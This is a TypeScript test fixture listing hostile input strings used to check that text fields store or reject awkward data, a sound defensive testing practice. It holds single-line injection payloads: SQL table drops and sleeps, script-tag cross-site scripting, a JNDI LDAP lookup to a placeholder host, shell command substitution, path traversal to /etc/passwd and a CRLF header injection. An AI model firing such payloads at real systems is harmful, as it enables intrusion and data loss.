// Texts that break those who keep, print or run them (reliability B1). `kept`: word for word where the field has room for it.
export interface HostileText {
  name: string;
  text: string;
  kept: boolean;
}

const kept = (name: string, text: string): HostileText => ({ name, text, kept: true });
const refused = (name: string, text: string): HostileText => ({ name, text, kept: false });

/** None is longer than 30 characters unless it is too long for every field, so that each field meets each of them. */
export const TEXTS: HostileText[] = [
  kept('a right-to-left override', 'a\u202Egpj.exe\u202Cz'),
  kept('Arabic and Hebrew', 'مرحبا שלום'),
  kept('emoji with joiners', '👩‍👩‍👧‍👦🏳️‍🌈'),
  kept('combining marks', 'Z̵̧͔͇ą̷l̶͍g̴̙ọ'),
  kept('zero width characters', 'a\u200B\u200D\uFEFFb'),
  kept('noncharacters', 'a\uFFFE\uFFFFb'),
  kept('the replacement character', 'a\uFFFDb'),
  kept('decomposed and composed letters', 'e\u0301 é'),
  kept('SQL', `'; drop table job; --`),
  kept('SQL with escapes', `\\'; select pg_sleep(9) --`),
  kept('a LIKE pattern', '100%_\\%'),
  kept('a dollar quote', '$$ || $1 || $tag$'),
  kept('HTML', '<img src=x onerror=alert(1)>'),
  kept('a script', '</title><script>alert(1)'),
  kept('a template', '{{constructor.name}}${7*7}'),
  kept('entities', '&lt;b&gt; &amp;amp; &#x3C;'),
  kept('a lookup', '${jndi:ldap://x.test/a}'),
  kept('a shell command', '`id`; $(id) | cat &'),
  kept('a path', '../../../../etc/passwd'),
  kept('formats', '%s%n%x %d'),
  kept('JSON', '{"a":"b","__proto__":1}'),
  kept('a formula', '=HYPERLINK("http://x","y")'),
  kept('a name of an object member', '__proto__'),
  kept('terminal codes', 'a\u001b[31mred\u001b[0m'),
  kept('line breaks inside', 'a\r\nSet-Cookie: x=1'),
  refused('U+0000', 'a\u0000b'),
  refused('a lone high surrogate', 'a\ud800b'),
  refused('a lone low surrogate', 'a\udc00b'),
  refused('surrogates the wrong way round', 'a\udc00\ud800b'),
];

/** A megabyte and a little. */
export const HUGE = 'x'.repeat(1_050_000);
